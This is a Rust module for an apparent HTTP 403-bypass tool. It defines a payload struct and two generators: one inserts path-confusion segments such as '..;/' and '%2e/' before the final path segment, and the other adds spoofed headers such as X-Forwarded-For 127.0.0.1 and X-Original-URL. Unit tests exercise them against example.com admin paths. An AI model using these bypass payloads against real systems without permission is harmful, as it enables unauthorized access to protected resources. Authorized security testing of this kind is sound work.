//! `BypassPayload` entity and a small set of illustrative bypass-module
//! generators
//!
//! The large-scale mutation engine that would produce thousands of these
//! is out of scope here; this module defines the shared wire-level entity
//! plus just enough generators (`mid_paths`, `http_headers_url`) to drive
//! the worker pool and CLI end-to-end.

use serde::{Deserialize, Serialize};

/// Wire-level payload produced by the (external) generator; immutable
/// during execution.
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq, Eq)]
pub struct BypassPayload {
    pub original_url: String,
    pub method: String,
    pub scheme: String,
    pub host: String,
    pub raw_uri: String,
    pub headers: Vec<(String, String)>,
    pub bypass_module: String,
    pub token: String,
}

impl BypassPayload {
    pub fn new(
        original_url: impl Into<String>,
        method: impl Into<String>,
        scheme: impl Into<String>,
        host: impl Into<String>,
        raw_uri: impl Into<String>,
        bypass_module: impl Into<String>,
    ) -> Self {
        let original_url = original_url.into();
        Self {
            original_url,
            method: method.into(),
            scheme: scheme.into(),
            host: host.into(),
            raw_uri: raw_uri.into(),
            headers: Vec::new(),
            bypass_module: bypass_module.into(),
            token: uuid::Uuid::new_v4().to_string(),
        }
    }

    pub fn with_header(mut self, name: impl Into<String>, value: impl Into<String>) -> Self {
        self.headers.push((name.into(), value.into()));
        self
    }
}

/// Parses `scheme://host[:port]/path` into its three payload components.
fn split_target(url: &str) -> Option<(String, String, String)> {
    let (scheme, rest) = url.split_once("://")?;
    let (host, path) = match rest.find('/') {
        Some(idx) => (&rest[..idx], &rest[idx..]),
        None => (rest, "/"),
    };
    Some((scheme.to_string(), host.to_string(), path.to_string()))
}

/// Bypass module: inserts mid-path segments (`/..;/`, `/./`, `;/`) ahead of
/// the final path component — a common 403-bypass family.
pub fn mid_paths(url: &str) -> Vec<BypassPayload> {
    let Some((scheme, host, path)) = split_target(url) else { return Vec::new() };
    const INSERTS: &[&str] = &["..;/", "./", "%2e/", ";/", "%2f"];

    let (prefix, last) = match path.rfind('/') {
        Some(idx) => (&path[..=idx], &path[idx + 1..]),
        None => ("/", path.as_str()),
    };

    INSERTS
        .iter()
        .map(|insert| {
            let raw_uri = format!("{prefix}{insert}{last}");
            BypassPayload::new(url, "GET", &scheme, &host, raw_uri, "mid_paths")
        })
        .collect()
}

/// Bypass module: adds common internal-access header claims
/// (`X-Forwarded-For`, `X-Original-URL`, ...) against the unmodified path.
pub fn http_headers_url(url: &str) -> Vec<BypassPayload> {
    let Some((scheme, host, path)) = split_target(url) else { return Vec::new() };
    const HEADERS: &[(&str, &str)] = &[
        ("X-Forwarded-For", "127.0.0.1"),
        ("X-Original-URL", "/"),
        ("X-Rewrite-URL", "/"),
        ("X-Custom-IP-Authorization", "127.0.0.1"),
    ];

    HEADERS
        .iter()
        .map(|(name, value)| {
            BypassPayload::new(url, "GET", &scheme, &host, path.clone(), "http_headers_url")
                .with_header(*name, *value)
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn mid_paths_inserts_before_last_segment() {
        let payloads = mid_paths("http://example.com/admin/secret");
        assert_eq!(payloads.len(), 5);
        assert!(payloads.iter().any(|p| p.raw_uri == "/admin/..;/secret"));
        assert!(payloads.iter().all(|p| p.host == "example.com"));
    }

    #[test]
    fn http_headers_url_preserves_path() {
        let payloads = http_headers_url("https://example.com/admin");
        assert!(payloads.iter().all(|p| p.raw_uri == "/admin"));
        assert!(payloads.iter().any(|p| p.headers.contains(&(
            "X-Forwarded-For".to_string(),
            "127.0.0.1".to_string()
        ))));
    }

    #[test]
    fn split_target_defaults_root_path() {
        let (scheme, host, path) = split_target("http://example.com").unwrap();
        assert_eq!((scheme.as_str(), host.as_str(), path.as_str()), ("http", "example.com", "/"));
    }
}
